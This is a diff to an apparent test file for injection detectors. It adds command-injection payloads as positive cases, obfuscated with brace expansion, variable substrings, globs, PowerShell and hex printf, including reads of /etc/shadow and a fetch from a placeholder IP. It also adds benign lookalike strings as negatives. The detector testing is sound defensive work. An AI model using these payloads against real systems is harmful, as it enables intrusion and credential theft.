@@ -88,6 +88,14 @@ POSITIVES = [
     ),
     (cmdi, "server-side include exec", '<!--#exec cmd="ls -la /home" -->'),
     (cmdi, "url-encoded separator", "file%3Bwget%20http%3A%2F%2F203.0.113.2%2Fa"),
+    (cmdi, "brace expansion instead of spaces", "x;{head,-n1,/etc/shadow}"),
+    (cmdi, "a variable's substring for a slash", "&${HOME:0:1}usr${HOME:0:1}bin${HOME:0:1}id"),
+    (cmdi, "glob wildcards for a path", "| /b??/c?t /e??/h?sts"),
+    (cmdi, "powershell cmdlet after a pipe", "x | Get-ChildItem -Force"),
+    (cmdi, "powershell cmdlet fetching a url", "; Invoke-RestMethod https://203.0.113.3/p"),
+    (cmdi, "printf in a substitution", "$(printf '\\x77\\x68\\x6f\\x61\\x6d\\x69')"),
+    (cmdi, "xargs running a shell", "| xargs -n1 sh -c"),
+    (cmdi, "eval handed a command line", "eval('uname -a')"),
     # code_injection
     (code_injection, "python import", "__import__('os').popen('ls').read()"),
     (code_injection, "python os.system", "os.system('touch /tmp/p')"),
@@ -312,6 +320,11 @@ NEGATIVES = [
     "Hello ${first_name}, your code is ${code}.",
     "Put ${HOME}/bin first on your PATH",
     "Fill in {if any} the {optional} fields",
+    "Who am I? Where am I going?",
+    "wget is not installed on the build image.",
+    "Pets: {cat, dog}; colors: {red, green}",
+    "See you soon; get-together at 6 | get-well cards on the table",
+    "Is it done?/ yes?/ no? Check https://example.com/a?b/c?d",
 ]
 
 DETECTORS_UNDER_TEST = [
